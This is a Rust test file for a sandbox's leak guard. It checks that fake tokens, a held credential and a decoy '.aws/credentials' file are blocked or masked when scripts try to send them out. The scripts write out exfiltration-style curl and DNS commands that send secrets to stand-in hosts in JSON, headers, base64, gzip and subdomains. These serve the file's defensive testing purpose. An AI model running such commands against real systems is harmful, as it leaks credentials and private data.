//! The leak guard: secrets of this run are stopped on their way out, however they are written, as far as that is promised.

use std::fmt::Write;

use ringfence_promises::World;

const NETWORK: &str = "allow = [{ host = \"allowed.example\", methods = [\"GET\", \"POST\"] }, \"*.wild.example\", \"allowed.example:80\"]";

/// Twenty secrets of four kinds and several lengths.
fn secrets() -> Vec<String> {
    let letters = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut state = 20_261_127u64;
    let mut word = |length: usize, letters: &[u8]| -> String {
        let letter = |_| {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            char::from(letters[(state >> 33) as usize % letters.len()])
        };
        (0..length).map(letter).collect()
    };
    (0..20)
        .map(|number| match number % 4 {
            0 => format!("ghp_{}", word(36, letters)),
            1 => word(32, b"0123456789abcdef"),
            2 => word(16, letters),
            _ => format!("{}-{}_{}", word(12, letters), word(14, letters), word(9, letters)),
        })
        .collect()
}

#[test]
fn each_way_that_is_promised_is_stopped() {
    let world = World::new();
    let policy = world.policy(&format!("{NETWORK}\n[leaks]\nscan = [\"egress\"]\n"));
    // Each kind is a matter of the way, not of the secret: a few do for each change.
    let few = if std::env::var_os("RINGFENCE_LEAKS").is_some() { 20 } else { 5 };
    let secrets: Vec<String> = secrets().into_iter().take(few).collect();
    let mut variables = String::new();
    for (number, secret) in secrets.iter().enumerate() {
        write!(variables, "APP{number}_TOKEN={secret} ").unwrap();
    }
    let words = world.place.write("words", &secrets.join(" "));
    world.place.write("corpus.py", include_str!("../world/corpus.py"));
    let outcome = world.host(&format!(
        "export SSL_CERT_FILE=$BASE/ca.pem {variables}; \"$RF\" run --quiet --policy {policy} --workspace . -- bash -c 'WORDS=$(cat words) python3 corpus.py'",
    ));
    drop(words);
    println!("{}", outcome.out);
    assert!(outcome.out.contains("clean 3 True"), "{outcome:?}");
    assert!(outcome.out.contains("bomb False"), "{outcome:?}");
    let promised: Vec<&str> =
        outcome.out.lines().filter(|line| line.starts_with("kind ") && !line.starts_with("kind (")).collect();
    assert!(promised.len() >= 48, "{outcome:?}");
    for line in &promised {
        assert!(line.ends_with(&format!(": {few}/{few}")), "{line}\n{outcome:?}");
    }
    // The server, and the record, have none of them as they are.
    let (heads, bodies) = (world.log("heads.log"), world.log("bodies.log"));
    let events = serde_json::to_string(&world.events()).unwrap();
    for secret in &secrets {
        assert!(!heads.contains(secret) && !bodies.contains(secret) && !events.contains(secret), "{secret}");
    }
    assert!(events.contains("the variable APP3_TOKEN") && events.contains("\"leak\""), "{events}");
}

#[test]
fn a_form_a_decoy_and_a_credential_are_known_and_a_warning_lets_through() {
    let world = World::new();
    let rest = format!(
        "[leaks]\nscan = [\"egress\"]\n[credentials.held]\nsource = {{ file = \"{}/token\" }}\nhosts = [\"allowed.example\"]\npaths = [\"/repo/held\"]",
        world.base.display()
    );
    std::fs::write(world.base.join("token"), "held-secret-Zq8mT4vKx2LwP9nRb7\n").unwrap();
    let script = r#"
curl -sm9 https://allowed.example/repo/held >/dev/null
code() { curl -sm9 -o body -w '%{http_code}\n' "$@"; }
code -d 'x=ghp_aB3dE5fG7hI9jK1lM2nO4pQ6rS8tU0vW1xY2' https://allowed.example/repo/form
code -d 'x=held-secret-Zq8mT4vKx2LwP9nRb7' http://allowed.example/repo/held-plain
code -d @/srv/made-up/.aws/credentials http://allowed.example/repo/decoy
code -d 'x=ordinary' https://allowed.example/repo/ordinary
"#;
    let watched = std::fs::File::options().read(true).write(true).open("/dev/fuse").is_ok();
    let run = |action: &str| {
        let policy = world.policy(&format!("{NETWORK}\n{rest}\n"));
        let text = std::fs::read_to_string(&policy).unwrap();
        // Only the watched root has decoys; without the device a policy that names one is refused.
        let text = text.replace(
            if watched { "[files]\n" } else { "(no decoy)" },
            "[files]\ndecoy = [\"/srv/made-up/.aws/credentials\"]\n",
        );
        std::fs::write(
            &policy,
            text.replace("scan = [\"egress\"]", &format!("scan = [\"egress\"]\naction = \"{action}\"")),
        )
        .unwrap();
        let script = world.place.write(world.place.base.path().join("script.sh"), script);
        world.host(&format!(
            "export SSL_CERT_FILE=$BASE/ca.pem; exec \"$RF\" run --quiet --policy {policy} --workspace . -- bash -c \"$(cat {})\"",
            script.display()
        ))
    };
    let blocked = run("block");
    let decoy = if watched { "403\n" } else { "200\n" };
    assert_eq!(blocked.out, format!("403\n403\n{decoy}200\n"), "{blocked:?} {:#?}", world.events());
    let events = serde_json::to_string(&world.events()).unwrap();
    for whose in ["GitHub token", "the credential `held`", "the decoy"] {
        assert!(events.contains(whose) || !watched && whose == "the decoy", "{whose}: {events}");
    }
    let warned = run("warn");
    assert_eq!(warned.out, "200\n200\n200\n200\n", "{warned:?}");
    assert!(serde_json::to_string(&world.events()).unwrap().contains("\"action\":\"warn\""));
}

#[test]
fn a_masked_secret_leaves_as_so_many_letters_or_not_at_all() {
    let world = World::new();
    let policy = world.policy(&format!("{NETWORK}\n[leaks]\nscan = [\"egress\"]\naction = \"mask\"\n"));
    let secret = "Zq8mT4vKx2LwP9nRb7JdYc5HsGf3AeUi1Qo6";
    world.place.write("secret", secret);
    let script = world.place.write(
        world.place.base.path().join("script.sh"),
        r#"
s=$(cat secret)
code() { curl -sm9 -o body -w '%{http_code}\n' "$@"; }
code --json "{\"a\": [\"$s\"]}" https://allowed.example/repo/json
code -d "$(printf %s "$s" | base64)=" https://allowed.example/repo/base64
code -H "X-Note: it is $s." "https://allowed.example/repo/head?a=$s&b=c"
{ head -c 90000 /dev/zero | tr '\0' a; printf %s "first $s second ${s:0:20}"; sleep 0.1; printf %s "${s:20} end"; } \
    | tee large | code -T - -X POST https://allowed.example/repo/large
[[ $(cat body) = "$(sed "s/$s/${s//?/x}/g" large | sha256sum | cut -d' ' -f1)" ]] && echo same
code -H 'Content-Encoding: gzip' --data-binary @<(gzip < secret) https://allowed.example/repo/packed
getent hosts "${s:0:30}.wild.example" || echo none
code -d 'x=ordinary' https://allowed.example/repo/ordinary
"#,
    );
    let outcome = world.host(&format!(
        "export SSL_CERT_FILE=$BASE/ca.pem APP_TOKEN={secret}; exec \"$RF\" run --quiet --policy {policy} --workspace . -- bash -c \"$(cat {})\"",
        script.display()
    ));
    assert_eq!(
        outcome.out,
        "200\n200\n200\n200\nsame\n403\nnone\n200\n",
        "{outcome:?} {:#?}",
        world.events()
    );
    let (heads, bodies) = (world.log("heads.log"), world.log("bodies.log"));
    let x = "x".repeat(secret.len());
    for (log, text) in [
        (&bodies, format!("{{\"a\": [\"{x}\"]}}")),
        (&heads, format!("it is {x}.")),
        (&heads, format!("/repo/head?a={x}&b=c")),
        (&bodies, "x=ordinary".to_owned()),
    ] {
        assert!(log.contains(&text), "{text}\n{heads}\n{}", &bodies[bodies.len().saturating_sub(3000)..]);
    }
    let events = serde_json::to_string(&world.events()).unwrap();
    for part in [&secret[..8], &secret[28..], "WnE4bVQ0dkt4Mkx3"] {
        assert!(!heads.contains(part) && !bodies.contains(part) && !events.contains(part), "{part}");
    }
    for action in ["mask", "block"] {
        assert!(events.contains(&format!("\"action\":\"{action}\"")), "{action}: {events}");
    }
}
